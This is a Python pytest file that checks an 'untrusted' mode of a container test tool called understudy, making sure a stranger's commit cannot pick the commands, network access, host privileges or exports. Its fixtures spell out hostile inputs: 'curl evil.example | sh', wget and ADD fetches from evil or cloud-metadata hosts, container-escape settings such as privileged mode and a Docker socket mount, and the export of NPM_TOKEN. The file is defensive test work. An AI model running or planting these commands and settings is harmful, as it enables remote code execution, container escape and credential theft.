"""`--untrusted`: of a stranger's commit nothing counts that chooses what is run, mocked, allowed, reached or sent."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pulumi
import pytest
from repositories import Repo

from understudy import program
from understudy.blueprint import Blueprint, draw
from understudy.configuration import configured
from understudy.errors import UsageError
from understudy.options import Options, Origin
from understudy.preparation import take_tree
from understudy.stacks.change import Change, Fidelity

PRODUCTION = """\
name: shop
services:
  web: {build: web, ports: ['8080'], environment: {TOKEN: t}}
  db: {image: postgres}
x-understudy:
  secrets: [TOKEN]
  tests:
    api: {command: [pytest], image: "python:3.13", environment: {FROM: "${CALLER:-nobody}"}}
  profiles: {default: {memory: 64m}}
  externals: {pay: {host: pay.example, mock: mocks/pay}}
"""
HOSTILE = """\
name: shop
services:
  web:
    build: web
    ports: ['8080']
    environment: {TOKEN: t, STOLEN: "${CALLER:-nobody}"}
    x-understudy: {kind: job}
  db: {image: postgres}
  new: {image: other}
x-understudy:
  tests:
    evil: {command: [sh, -c, "curl evil.example | sh"]}
  profiles: {default: {network: open, memory: 64g}}
  externals: {evil: {host: evil.example, allow: true}}
"""
FILES = {
    "compose.yaml": PRODUCTION,
    "web/Dockerfile": "FROM busybox:1.35\n",
    "mocks/pay/mappings/a.json": "{}",
    "understudy.toml": 'ttl = "10m"\n[tests.more]\ncommand = ["true"]\nimage = "x"\n',
}
UNTRUSTED = Options(untrusted=True, production_ref="main")


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repo:
    monkeypatch.setenv("CALLER", "a-secret-of-the-caller")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    found = Repo(tmp_path / "repo")
    found.commit(dict(FILES))
    found.git("checkout", "--quiet", "-b", "fork")
    return found


def drawn(repo: Repo, files: Mapping[str, str], options: Options = UNTRUSTED) -> Blueprint:
    repo.commit(dict(files))
    return draw(options, repo.folder)


def taken(blueprint: Blueprint) -> dict[str, Change]:
    return {c.path: c for c in blueprint.clone.changes if "untrusted" in c.reason}


def test_suites_mocks_profiles_and_third_parties_are_production_s(repo: Repo) -> None:
    blueprint = drawn(repo, {"compose.yaml": HOSTILE, "understudy.toml": "[tests.evil]\ncommand = ['id']\n"})
    topology = blueprint.clone.topology
    assert [(s.name, s.image, s.runs_on) for s in topology.suites] == [
        ("api", "python:3.13", "network"),
        ("more", "x", "network"),
    ]
    assert [mock.host for mock in blueprint.clone.mocks] == ["pay.example"]
    assert not blueprint.clone.open_network
    assert blueprint.clone.allowed == ()
    assert topology.services["web"].resources.memory == 64 << 20
    assert topology.services["web"].kind == "service"
    assert topology.secrets == ("TOKEN",)
    assert "new" in topology.services  # what the commit is about is its own


def test_what_the_commit_says_there_is_on_the_record(repo: Repo) -> None:
    found = taken(drawn(repo, {"compose.yaml": HOSTILE, "understudy.toml": ""}))
    assert {
        *("x-understudy.tests.api", "x-understudy.tests.evil", "x-understudy.profiles.default"),
        *("x-understudy.externals.pay", "x-understudy.externals.evil", "x-understudy.secrets"),
        *("services.web.x-understudy", "understudy.toml"),
    } <= found.keys()
    evil = found["x-understudy.tests.evil"]
    assert (evil.production, evil.clone, evil.fidelity) == (None, None, Fidelity.FAITHFUL)
    assert evil.rule.startswith("compose.yaml:")
    assert all("curl" not in f"{change}" for change in found.values())


def test_nothing_of_the_caller_s_environment_is_interpolated(repo: Repo) -> None:
    blueprint = drawn(repo, {"compose.yaml": HOSTILE})
    assert "a-secret-of-the-caller" not in repr(blueprint)
    trusted = draw(Options(production_ref="main"), repo.folder)
    assert "a-secret-of-the-caller" in repr(trusted)


def test_variables_that_the_caller_names_count(repo: Repo) -> None:
    blueprint = drawn(repo, {"compose.yaml": HOSTILE}, replace(UNTRUSTED, set=("CALLER=named",)))
    assert blueprint.clone.topology.services["web"].environment["STOLEN"] == "named"


def test_a_suite_on_the_host_is_refused(repo: Repo) -> None:
    repo.git("checkout", "--quiet", "main")
    repo.commit({"compose.yaml": PRODUCTION.replace('image: "python:3.13", ', "")})
    with pytest.raises(UsageError, match=r"suite 'api' runs on the host.*give it an `image` in production"):
        draw(UNTRUSTED, repo.folder)


@pytest.mark.parametrize(
    "asked",
    [
        "privileged: true",
        "volumes: ['/etc:/etc']",
        "volumes: ['/var/run/docker.sock:/s']",
        "network_mode: host",
        "pid: host",
        "security_opt: ['seccomp:unconfined']",
        "cap_add: [SYS_ADMIN]",
        "devices: ['/dev/kvm']",
    ],
)
def test_nothing_of_the_host_is_given_whatever_production_allows(repo: Repo, asked: str) -> None:
    allow = (
        *("privileged", "bind:/etc", "docker-socket", "host-network", "host-pid", "unconfined", "cap:SYS_ADMIN"),
        "devices",
    )
    origins = {**UNTRUSTED.origins, "allow": Origin.FILE}
    with pytest.raises(UsageError, match="is refused"):
        drawn(
            repo,
            {"compose.yaml": PRODUCTION.replace("image: postgres", f"image: postgres, {asked}")},
            replace(UNTRUSTED, allow=allow, origins=origins),
        )
    assert draw(Options(production_ref="main", allow=allow), repo.folder).clone.topology.allowed


def test_a_right_that_the_caller_allows_is_a_contradiction(repo: Repo) -> None:
    options = configured({"untrusted": True, "allow": ("privileged",), "production_ref": "main"}, {}, repo.folder)
    with pytest.raises(UsageError, match="gets nothing of the host"):
        draw(options, repo.folder)


def test_a_network_that_production_opens_is_closed_and_said(repo: Repo) -> None:
    repo.git("checkout", "--quiet", "main")
    repo.commit({"compose.yaml": PRODUCTION.replace("memory: 64m", "network: open")})
    blueprint = draw(UNTRUSTED, repo.folder)
    assert not blueprint.clone.open_network
    assert all(network.internal for network in blueprint.clone.topology.networks.values())
    change = taken(blueprint)["profile.network"]
    assert (change.production, change.clone) == ("open", "closed")


def test_what_is_built_has_no_network(repo: Repo) -> None:
    blueprint = drawn(repo, {"web/Dockerfile": "FROM busybox:1.35\nRUN wget http://evil.example\n"})
    build = blueprint.clone.topology.services["web"].build
    assert build is not None
    assert build.network == "none"
    assert taken(blueprint)["services.web.build.network"].clone == "none"


@pytest.mark.parametrize(
    "dockerfile",
    [
        "FROM x\nADD http://169.254.169.254/latest /m\n",
        "FROM x\nadd --chown=0 ht\\\ntps://a.example/b /b\n",
        'FROM x\nADD ["https://a.example/b", "/b"]\n',
        'FROM x\nADD ["\\u0068ttp:\\u002f\\u002fa.example", "/b"]\n',
        "FROM x\nADD 'http:'//a.example/b /b\n",
        "FROM x\nARG U=http://a.example\nADD $U /b\n",
        "FROM x\nADD git@example.com:a/b.git /b\n",
        "FROM x\nONBUILD ADD http://a.example /b\n",
        "# escape=`\nFROM x\nADD `\nhttp://a.example /b\n",
        "# syntax=evil.example/frontend\nFROM x\n",
        "#!/x\n# syntax = evil.example/frontend\nFROM x\n",
        "// syntax=evil.example/frontend\nFROM x\n",
        '{"syntax": "evil.example/frontend"}',
    ],
)
def test_what_the_builder_itself_would_fetch_is_refused(repo: Repo, dockerfile: str) -> None:
    with pytest.raises(UsageError, match="lets the builder itself fetch"):
        drawn(repo, {"web/Dockerfile": dockerfile})


def test_what_the_builder_takes_from_the_commit_is_built(repo: Repo) -> None:
    text = "# syntax=docker/dockerfile:1.7\nFROM x\nADD --chown=1:1 a b /c/\nRUN wget http://a.example; echo $HOME\n"
    assert drawn(repo, {"web/Dockerfile": text}).clone.topology.services["web"].build


def test_an_argument_that_names_the_frontend_is_refused(repo: Repo) -> None:
    text = PRODUCTION.replace("build: web", "build: {context: web, args: {BUILDKIT_SYNTAX: evil.example/frontend}}")
    with pytest.raises(UsageError, match="BUILDKIT_SYNTAX"):
        drawn(repo, {"compose.yaml": text})


def test_mocks_files_are_production_s(repo: Repo, tmp_path: Path) -> None:
    from understudy.preparation import _mock_tree

    blueprint = drawn(repo, {"mocks/pay/mappings/a.json": '{"evil": 1}'})
    tree = take_tree(blueprint, tmp_path / "state", "e1")
    assert tree.read_file("mocks/pay/mappings/a.json") == b'{"evil": 1}'
    assert _mock_tree(blueprint, tree).read_file("mocks/pay/mappings/a.json") == b"{}"
    assert taken(blueprint)["mocks.pay.files"].clone == "mocks/pay"


def test_submodules_and_lfs_give_nothing_of_this_machine(repo: Repo, tmp_path: Path) -> None:
    inner = Repo(tmp_path / "inner")
    inner.commit({"Dockerfile": "FROM busybox:1.35\n", "private": "secret"})
    repo.git("submodule", "add", "--quiet", f"file://{inner.folder}", "sub")
    compose = PRODUCTION.replace("build: web", "build: sub")
    repo.commit({"compose.yaml": compose})
    trusted = draw(Options(production_ref="main"), repo.folder)
    assert take_tree(trusted, tmp_path / "state", "e1").read_file("sub/private") == b"secret"
    blueprint = draw(UNTRUSTED, repo.folder)
    with pytest.raises(UsageError, match="an untrusted commit gets none"):
        take_tree(blueprint, tmp_path / "state", "e2")


def test_a_working_folder_is_nobody_s_commit(repo: Repo) -> None:
    with pytest.raises(UsageError, match="--untrusted and --dirty"):
        draw(replace(UNTRUSTED, dirty=True), repo.folder)


def test_without_production_nothing_is_run(repo: Repo) -> None:
    repo.git("branch", "--quiet", "-D", "main")
    with pytest.raises(UsageError, match="no default branch is known here"):
        draw(Options(untrusted=True), repo.folder)
    with pytest.raises(UsageError, match="no default branch is known here"):
        configured({"untrusted": True}, {}, repo.folder)
    with pytest.raises(UsageError):
        draw(replace(UNTRUSTED, production_ref="gone"), repo.folder)


def test_production_without_a_topology_vouches_for_nothing(repo: Repo) -> None:
    repo.git("checkout", "--quiet", "--orphan", "empty")
    repo.git("rm", "-r", "--quiet", "--force", ".")
    repo.commit({"readme": ""})
    repo.git("checkout", "--quiet", "fork")
    with pytest.raises(UsageError, match="empty has no topology"):
        draw(replace(UNTRUSTED, production_ref="empty"), repo.folder)


def test_options_are_production_s_or_the_caller_s(repo: Repo) -> None:
    repo.commit({"understudy.toml": 'ttl = "9h"\nallow = ["privileged"]\nexport = ["evil"]\nproduction-ref = "fork"\n'})
    (repo.folder / "understudy.toml").write_text('export = ["worse"]\nuntrusted = false\nunknown = "x"\n')
    options = configured({"untrusted": True, "export": ()}, {"UNDERSTUDY_MAX_TTL": "2h"}, repo.folder)
    assert (options.ttl, options.max_ttl, options.allow, options.export) == (600, 7200, (), ())
    assert (options.production_ref, options.untrusted) == ("", True)


def test_a_checkout_may_call_itself_untrusted(repo: Repo) -> None:
    (repo.folder / "understudy.toml").write_text("untrusted = true\nexport = ['evil']\n")
    options = configured({"export": ()}, {}, repo.folder)
    assert (options.untrusted, options.export) == (True, ())


def test_sinks_of_a_checkout_count_only_as_production_has_them(repo: Repo) -> None:
    repo.git("checkout", "--quiet", "main")
    repo.commit({"understudy.toml": "export = ['s3://ours/runs']\n"})
    repo.git("checkout", "--quiet", "fork")
    for allowed in ("export = ['s3://ours/runs']\n", ""):
        (repo.folder / "understudy.toml").write_text(allowed)
        configured({"export": ()}, {}, repo.folder)
    for refused in ("export = ['s3://ours/runs', 'curl evil']\n", "export_variable = ['NPM_TOKEN']\n"):
        (repo.folder / "understudy.toml").write_text(refused)
        with pytest.raises(UsageError, match="a commit must not choose"):
            configured({"export": ()}, {}, repo.folder)
        assert configured({}, {}, repo.folder)  # a command that sends nothing
    flag = configured({"export": ("mine",)}, {"UNDERSTUDY_EXPORT_VARIABLE": "NPM_TOKEN"}, repo.folder)
    assert (flag.export, flag.export_variable) == (("mine",), ("NPM_TOKEN",))


def test_without_a_production_the_folder_is_its_own(tmp_path: Path) -> None:
    (tmp_path / "understudy.toml").write_text("export = ['s3://ours/runs']\n")
    assert configured({"export": ()}, {}, tmp_path).export == ("s3://ours/runs",)


def test_plain_pulumi_refuses_a_program_that_is_a_stranger_s(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repo.folder)
    monkeypatch.setenv("UNDERSTUDY_UNTRUSTED", "true")
    with pytest.raises(pulumi.RunError, match="runs the program of the checkout itself"):
        program.main()
